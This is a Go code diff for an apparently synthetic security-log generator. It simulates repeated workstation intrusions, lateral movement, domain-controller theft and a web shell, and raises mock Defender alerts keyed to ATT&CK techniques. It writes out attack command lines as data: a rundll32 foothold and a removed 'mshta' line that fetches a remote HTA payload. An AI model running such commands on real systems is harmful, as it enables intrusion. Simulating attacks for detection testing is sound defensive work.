@@ -29,6 +29,30 @@ type step struct {
 	traces            []trace
 }
 
+// techniqueAlerts are the Defender for Endpoint alerts that single techniques raise on their own, by title.
+func techniqueAlerts() map[string]string {
+	return map[string]string{
+		"Mshta (T1218.005)":    "Suspicious mshta process launched",
+		"Regsvr32 (T1218.010)": "Suspicious Regsvr32 activity",
+		"Image File Execution Options Injection (T1546.012)": "Sticky Keys binary hijack detected",
+		"WMI Event Subscription (T1546.003)":                 "Suspicious WMI event subscription created",
+		"Bypass User Account Control (T1548.002)":            "UAC bypass was detected",
+		"Clear Windows Event Logs (T1070.001)":               "Event log was cleared",
+		"Disable or Modify Tools (T1562.001)":                "Attempt to turn off Microsoft Defender Antivirus protection",
+		"LSASS Memory (T1003.001)":                           "Mimikatz credential theft tool",
+		"Kerberoasting (T1558.003)":                          "Kerberoasting activity",
+		"Security Account Manager (T1003.002)":               "Suspicious registry export of the SAM hive",
+		"Masquerading (T1036.005)":                           "Suspicious process masquerading as a system process",
+		"Exfiltration to Cloud Storage (T1567.002)":          "Possible data exfiltration using Rclone",
+		"Remote Access Software (T1219)":                     "Suspicious remote access software installed",
+		"Protocol Tunneling (T1572)":                         "Suspicious SSH tunneling activity",
+		"Inhibit System Recovery (T1490)":                    "File backups were deleted",
+		"Account Discovery (T1087)":                          "SharpHound Active Directory reconnaissance",
+		"Scheduled Task (T1053.005)":                         "Suspicious Task Scheduler activity",
+		"Windows Service (T1543.003)":                        "Suspicious service registration",
+	}
+}
+
 func tFile(action, path string, size int64) trace {
 	return trace{table: "file", action: action, a: path, n: size}
 }
@@ -185,6 +209,7 @@ func (g *generator) playIntrusion(in *intrusion) {
 	byTactic := map[string][]evidence{}
 	var order []string
 	techniques := map[string][]string{}
+	alerts, raised := techniqueAlerts(), map[string]bool{}
 	for _, s := range in.steps {
 		ts := t()
 		parent := shell
@@ -217,6 +242,12 @@ func (g *generator) playIntrusion(in *intrusion) {
 		}
 		if len(byTactic[s.tactic]) < 8 {
 			byTactic[s.tactic] = append(byTactic[s.tactic], evidence{entityType: "Process", role: "Related", dev: d, proc: p, file: p.img})
+		}
+		if title, ok := alerts[s.technique]; ok && !raised[title] {
+			raised[title] = true
+			g.raise(ts+int64(30*sec), srcMDE, "EDR", title, s.tactic, "Medium", []string{s.technique},
+				evidence{entityType: "Machine", role: "Impacted", dev: d}, evidence{entityType: "User", role: "Related", dev: d, acct: u},
+				evidence{entityType: "Process", role: "Related", dev: d, proc: p, file: p.img})
 		}
 		if !containsStr(techniques[s.tactic], s.technique) {
 			techniques[s.tactic] = append(techniques[s.tactic], s.technique)
@@ -317,35 +348,52 @@ func (g *generator) stepTrace(d *device, p *proc, ts int64, tr trace, u *account
 	}
 }
 
-// intrusions plays the campaigns: a full workstation intrusion a week and a half before the end, a second
-// shorter one (living off the land only) on another workstation, and the same operator's discovery and
-// credential theft from a server.
+// intrusions plays the campaigns. Hands-on-keyboard intrusions recur in a real tenant, so the same playbook
+// runs on several workstations: in full four days before the end, a third of it in the last day, another
+// third two weeks back; then the operator moves laterally, steals the directory database, and a Linux
+// server falls to SSH password guessing.
 func (g *generator) intrusions(c storyCast) {
 	ws := g.w.windowsWorkstations()
 	if len(ws) < 3 {
 		return
 	}
-	d := ws[len(ws)/3]
-	u := d.owner
-	start := g.c.clamp(g.c.end - 10*dayNs + int64(9*hour))
-	if g.c.end-g.c.start < 12*dayNs {
-		start = g.c.start + (g.c.end-g.c.start)/5
-	}
-	foot := g.spawnImage(d, g.sessionProc(d, start), d.images[iRundll32], `"C:\Windows\System32\rundll32.exe" E:\docs\invoice.dll,DllRegisterServer`, u, start)
-	g.playIntrusion(&intrusion{name: "Operator intrusion", dev: d, acct: u, foothold: foot, start: start, gap: 4 * time.Minute, steps: workstationSteps(u, g.w.dc)})
-	// The same procedures recur, as hands-on-keyboard activity does, on a second machine days later.
-	d2 := ws[(len(ws)*2)/3]
-	start2 := g.c.clamp(g.c.end - 5*dayNs + int64(14*hour))
-	foot2 := g.spawnImage(d2, g.sessionProc(d2, start2), d2.images[iMshta], `mshta.exe http://198.51.100.23/update.hta`, d2.owner, start2)
-	var short []step
-	for i, s := range workstationSteps(d2.owner, g.w.dc) {
-		if i%3 == 1 {
-			short = append(short, s)
+	span := g.c.end - g.c.start
+	at := func(back int64, hourOfDay time.Duration) int64 {
+		if span < 20*dayNs {
+			return g.c.start + span*(20*dayNs-min(back, 19*dayNs))/(20*dayNs)
 		}
+		t := g.c.end - back
+		return g.c.clamp(t - t%dayNs + int64(hourOfDay))
 	}
-	g.playIntrusion(&intrusion{name: "Hands-on-keyboard attack", dev: d2, acct: d2.owner, foothold: foot2, start: start2, gap: 3 * time.Minute, steps: short})
-	g.lateralTechniques(d, start+int64(7*hour))
-	g.domainControllerTheft(start + int64(8*hour))
-	g.linuxIntrusion(start2 - 2*dayNs)
+	plays := []struct {
+		dev   *device
+		name  string
+		start int64
+		keep  func(i int) bool
+	}{
+		{ws[len(ws)/3], "Operator intrusion", at(4*dayNs, 9*time.Hour), func(int) bool { return true }},
+		{ws[(len(ws)*2)/3], "Hands-on-keyboard attack", at(dayNs, 0), func(i int) bool { return i%3 == 1 }},
+		{ws[(len(ws)*5)/6], "Hands-on-keyboard attack", at(14*dayNs, 13*time.Hour), func(i int) bool { return i%3 == 2 }},
+	}
+	for k, p := range plays {
+		start := p.start
+		if k == 1 {
+			// In the last day, ending well before the end of the window: the steps take about two hours.
+			start = max(g.c.start, g.c.end-int64(20*time.Hour))
+		}
+		var steps []step
+		for i, s := range workstationSteps(p.dev.owner, g.w.dc) {
+			if p.keep(i) {
+				steps = append(steps, s)
+			}
+		}
+		foot := g.spawnImage(p.dev, g.sessionProc(p.dev, start), p.dev.images[iRundll32], `"C:\Windows\System32\rundll32.exe" E:\docs\invoice.dll,DllRegisterServer`, p.dev.owner, start)
+		g.playIntrusion(&intrusion{name: p.name, dev: p.dev, acct: p.dev.owner, foothold: foot, start: start, gap: 2 * time.Minute, steps: steps})
+	}
+	first := plays[0].start
+	g.lateralTechniques(plays[0].dev, first+int64(5*hour))
+	g.domainControllerTheft(first + int64(6*hour))
+	g.linuxIntrusion(at(2*dayNs, 2*time.Hour))
+	g.webShell(at(6*dayNs, 22*time.Hour))
 	_ = c
 }
